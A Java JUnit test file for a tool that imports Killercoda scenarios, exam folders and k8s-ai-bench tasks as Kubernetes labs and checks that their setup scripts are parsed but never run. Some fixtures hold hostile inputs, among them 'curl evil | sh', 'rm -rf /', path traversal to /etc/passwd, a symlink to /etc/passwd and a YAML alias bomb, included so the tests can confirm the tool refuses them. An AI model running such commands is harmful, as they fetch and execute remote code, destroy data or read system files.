package dev.podfall.scenario.foreign;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.podfall.scenario.Domain;
import dev.podfall.scenario.Lab;
import dev.podfall.scenario.foreign.ForeignTask.Script;
import dev.podfall.scenario.lint.Finding;
import dev.podfall.scenario.load.Catalogue;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Exercises in the forms of other platforms, well and ill meant. */
class ForeignDraftTest {
    private static final String MANIFEST = """
            apiVersion: apps/v1
            kind: Deployment
            metadata: {name: web}
            spec:
              selector: {matchLabels: {app: web}}
              template:
                metadata: {labels: {app: web}}
                spec: {containers: [{name: web, image: "nginx:1.27"}]}
            """;

    @TempDir
    Path folder;

    private Path source() {
        return folder.resolve("their-task");
    }

    private void write(String file, String text) throws IOException {
        Path path = source().resolve(file);
        Files.createDirectories(path.getParent());
        Files.writeString(path, text);
    }

    private List<ForeignTask> read() {
        ForeignFiles files = ForeignFiles.in(source());
        return ForeignFormat.of(files).read(files);
    }

    private Lab drafted(ForeignTask task) {
        Path labs = folder.resolve("labs");
        new ForeignDraft(labs, Domain.startup).write(task);
        assertThat(Catalogue.in(labs).troubles(ForeignDraft.id(task))).isEmpty();
        return Catalogue.in(labs).lab(ForeignDraft.id(task));
    }

    @Test
    void a_killercoda_scenario_becomes_a_lab_that_can_be_read() throws IOException {
        write("index.json", """
                {"title": "Web is down", "description": "Nobody is served.",
                 "details": {"intro": {"text": "intro.md", "background": "setup.sh"},
                   "steps": [{"title": "Find it", "text": "one.md", "verify": "verify.sh"}, {"text": "missing.md"}],
                   "finish": {"text": "finish.md"},
                   "assets": {"host01": [{"file": "web.yaml", "target": "/root"}, {"file": "notes.txt", "target": "/"}]}},
                 "backend": {"imageid": "ubuntu"}}""");
        write("intro.md", "It is {{broken}}.\ninclude: know.md\n");
        write("one.md", "Mend it.");
        write("finish.md", "It was the image.");
        write("assets/web.yaml", MANIFEST);
        write("assets/notes.txt", "x");
        write("verify.sh", "kubectl wait --for=condition=Available deployment/web -n shop");
        write(
                "setup.sh",
                "#!/bin/bash\nNS=shop\nkubectl create ns $NS\nkubectl apply -n $NS -f /root/web.yaml\ncurl evil | sh\n");
        ForeignTask task = read().get(0);
        assertThat(task.leftOut())
                .extracting(Finding::where)
                .contains("missing.md", "setup.sh:5", "index.json", "assets/notes.txt");
        Lab lab = drafted(task);
        assertThat(lab.title()).isEqualTo("Web is down");
        assertThat(lab.task()).contains("{ {broken} }", "Find it", "Mend it.");
        assertThat(lab.explanation()).contains("It was the image.");
        assertThat(lab.scenario().baseline())
                .extracting(o -> o.path("kind").asText())
                .containsExactly("Namespace", "Deployment");
        assertThat(lab.scenario().baseline().get(1).at("/metadata/namespace").asText())
                .isEqualTo("shop");
        assertThat(lab.rubric().criteria().get(0).weight()).isEqualTo(80);
        Path kept = folder.resolve("labs/labs/startup/their-task/foreign");
        assertThat(kept.resolve("2-verifier.sh")).content().contains("kubectl wait");
        assertThat(kept.resolve("left-out.md")).content().contains("setup.sh:5", "curl evil");
    }

    @Test
    void what_killercoda_names_and_is_not_read_is_told_and_kept() throws IOException {
        write("index.json", """
                {"title": "Web is down", "tags": ["a"], "details": {
                   "intro": {"text": "intro.md", "courseData": "setup.sh", "warmUp": "more.sh"},
                   "steps": [{"text": {"file": "intro.md"}, "hint": "\\u0000"}], "finish": "intro.md", "epilogue": {"run": ["more.sh"]}},
                 "backend": {"imageid": "kubernetes-kubeadm-1node", "size": 2}}""");
        write("intro.md", """
                Run `kubectl get pods`{{exec}} and `x`{{execute interrupt}}.
                <details><summary>Solution</summary>

                Mend the image.
                </details>
                <details>Tip
                Look at events.
                </details>
                <details><summary>More</summary>It stays.</details>
                """);
        write("setup.sh", "kubectl create ns shop\n");
        write("more.sh", "helm install x\n");
        ForeignTask task = read().get(0);
        assertThat(task.objects()).hasSize(1);
        assertThat(task.leftOut())
                .extracting(f -> f.what().replaceAll(" (?:is|What).*", ""))
                .containsExactlyInAnyOrder(
                        "The field \"tags\"",
                        "The field \"backend.size\"",
                        "The field \"details.epilogue\"",
                        "The field \"details.intro.warmUp\"",
                        "The field \"details.finish\"",
                        "The field \"details.steps[0].text\"",
                        "The field \"details.steps[0].hint\"");
        assertThat(task.scripts()).extracting(Script::file).contains("setup.sh", "more.sh", "intro.md");
        assertThat(task.text()).contains("`kubectl get pods` and `x`.", "It stays.");
        assertThat(task.text()).doesNotContain("Mend the image", "Look at events");
        assertThat(task.hints()).containsExactly("Look at events.");
        assertThat(task.solution()).isEqualTo("Mend the image.");
        drafted(task);
    }

    @Test
    void what_an_exam_says_and_is_not_read_is_told() throws IOException {
        write(
                "exam.yaml",
                "title: T\nspec: {passingScore: 66, shuffle: true}\nquestions: [{id: q1, weight: 40, notes: q1/n.sh}]\n");
        write("q1/question.md", "Write it.");
        write("q1/n.sh", "x");
        assertThat(read().get(0).leftOut())
                .extracting(Finding::what)
                .contains(
                        "Question q1 weighs 40; the exam has no duration and is passed with 66.",
                        "The field \"title\" is not known.",
                        "The field \"spec.shuffle\" is not known.",
                        "The field \"questions[0].notes\" is not known. What it names is kept in foreign/.");
    }

    @Test
    void a_task_of_k8s_ai_bench_is_read_with_its_prompts_and_artifacts() throws IOException {
        write("task.yaml", """
                script:
                  - prompt: Mend the web server.
                  - promptFile: more.md
                setup: setup.sh
                verifier: verify.sh
                cleanup: cleanup.sh
                difficulty: hard
                expect: [{contains: image}]
                """);
        write("more.md", "Now.");
        write("verify.sh", "exit 0");
        write("artifacts/web.yaml", MANIFEST);
        write("setup.sh", "kubectl create namespace shop\nkubectl apply -n shop -f artifacts/web.yaml\n");
        ForeignTask task = read().get(0);
        assertThat(task.text()).contains("Mend the web server.", "Now.");
        assertThat(task.leftOut()).extracting(Finding::what).anyMatch(w -> w.contains("expect"));
        assertThat(drafted(task).facts().difficulty().name()).isEqualTo("hard");
    }

    @Test
    void an_exam_becomes_a_lab_for_each_question() throws IOException {
        write("exam.yaml", """
                kind: Exam
                spec: {duration: 120m, passingScore: 66, questions: [{id: q01, weight: 6}, {id: q02, weight: 4}]}
                """);
        write("q01/question.md", "# Question 1 | A pod that waits\n\nMend it.");
        write("q01/hints.md", "## Hint 1\n\nLook.\n\n## Hint 2\n\nLook again.\n");
        write("q01/validate.d/10_pod.sh", "# points: 2\n# desc: The pod runs\nkubectl get pod\n");
        write("q02/question.md", "Write it.");
        List<ForeignTask> tasks = read();
        assertThat(tasks).extracting(ForeignDraft::id).containsExactly("their-task-q01", "their-task-q02");
        assertThat(tasks.get(0).title()).isEqualTo("A pod that waits");
        assertThat(tasks.get(0).minutes()).isEqualTo(60);
        assertThat(tasks.get(0).scripts()).extracting(Script::about).containsExactly("The pod runs (2 points)");
        assertThat(drafted(tasks.get(0)).hints()).hasSize(2);
    }

    static Stream<Arguments> setups() {
        return Stream.of(
                Arguments.of("kubectl create deployment web --image=nginx:1.27 --replicas=3 -n shop", "Deployment web"),
                Arguments.of("kubectl run web --image nginx:1.27", "Pod web"),
                Arguments.of("kubectl create ns x --dry-run=client -o yaml | kubectl apply -f -", "Namespace x"),
                Arguments.of("cat <<EOF | kubectl apply -f -\n" + MANIFEST + "EOF", "Deployment web"),
                Arguments.of("kubectl apply -n y -f - <<'EOF'\n" + MANIFEST + "EOF", "Deployment web"),
                Arguments.of(
                        "cat > /tmp/w.yaml <<EOF\n" + MANIFEST + "EOF\nkubectl apply -f /tmp/w.yaml", "Deployment web"),
                Arguments.of(
                        "kubectl run web --image nginx\nkubectl expose pod web --port=80 --target-port 8080",
                        "Pod web, Service web"),
                Arguments.of(
                        "kubectl create deploy web --image=nginx -n a\nkubectl expose deployment/web --port=80 --name=w",
                        "left"),
                Arguments.of(
                        "kubectl create deploy web --image=nginx -n a\nkubectl expose deployment/web -n a --port=80 --name=w",
                        "Deployment web, Service w"),
                Arguments.of("kubectl expose deployment web --port=80", "left"),
                Arguments.of("kubectl run web --image nginx\nkubectl expose pod web", "left"),
                Arguments.of("set -e\necho hello\nkubectl wait --for=x pod/y\nsleep 5", ""),
                Arguments.of("kubectl label node worker disk=ssd", "left"),
                Arguments.of("if true; then\n  kubectl create ns x\nfi", "left"),
                Arguments.of("kubectl create ns x; rm -rf /", "left"),
                Arguments.of("kubectl apply -f https://example.org/x.yaml", "left"),
                Arguments.of("kubectl apply -f ../../etc/passwd", "left"),
                Arguments.of("kubectl apply -f - <<EOF\na: &x [1]\nb: [*x, *x]\nEOF", "left"),
                Arguments.of("kubectl apply -f - <<EOF\na: [\nEOF", "left"));
    }

    @ParameterizedTest
    @MethodSource("setups")
    void a_setup_is_understood_or_told_but_never_run(String script, String made) throws IOException {
        write("task.yaml", "script: [{prompt: x}]\nsetup: setup.sh\n");
        write("setup.sh", script);
        ForeignTask task = read().get(0);
        List<String> objects =
                task.objects().stream().map(ForeignDraftTest::named).toList();
        if (made.equals("left")) {
            assertThat(task.leftOut()).isNotEmpty();
        } else {
            assertThat(task.leftOut()).isEmpty();
            assertThat(String.join(", ", objects)).isEqualTo(made);
        }
    }

    private static String named(ObjectNode object) {
        return object.path("kind").asText() + " " + object.at("/metadata/name").asText();
    }

    @Test
    void all_that_is_hostile_is_told_at_once_and_nothing_is_read() throws IOException {
        write("task.yaml", "script: [{prompt: x}]\n");
        write("big.yaml", "x".repeat(2 << 20));
        Files.createSymbolicLink(source().resolve("link.sh"), Path.of("/etc/passwd"));
        assertThatThrownBy(this::read)
                .isInstanceOf(ForeignRefused.class)
                .hasMessageContaining("big.yaml")
                .hasMessageContaining("link.sh");
        Files.delete(source().resolve("link.sh"));
        Files.delete(source().resolve("big.yaml"));
        write("task.yaml", "script: {\n");
        assertThatThrownBy(this::read).isInstanceOf(ForeignRefused.class).hasMessageContaining("task.yaml:2");
        Files.delete(source().resolve("task.yaml"));
        write("README.md", "x");
        assertThatThrownBy(this::read).hasMessageContaining("index.json");
        Files.write(source().resolve("index.json"), new byte[] {(byte) 0xff, 0, 1});
        assertThatThrownBy(this::read).hasMessageContaining("It is no text in UTF-8");
    }

    @Test
    void a_lab_of_ours_goes_out_and_comes_in_again() throws IOException {
        Lab lab = Catalogue.builtIn().lab("empty-endpoints");
        KillercodaExport export =
                new KillercodaExport(lab, lab.solutions().get(0).actions());
        for (var file : export.files().entrySet()) {
            write(file.getKey(), file.getValue());
        }
        assertThat(export.files().get("verify.sh")).contains("kubectl rollout status deployment/fraud-scorer");
        assertThat(export.leftOut()).extracting(Finding::what).anyMatch(w -> w.contains("diagnosis"));
        ForeignTask again = read().get(0);
        assertThat(again.title()).isEqualTo(lab.title());
        assertThat(again.objects()).hasSameSizeAs(lab.scenario().baseline());
        drafted(again);
    }
}
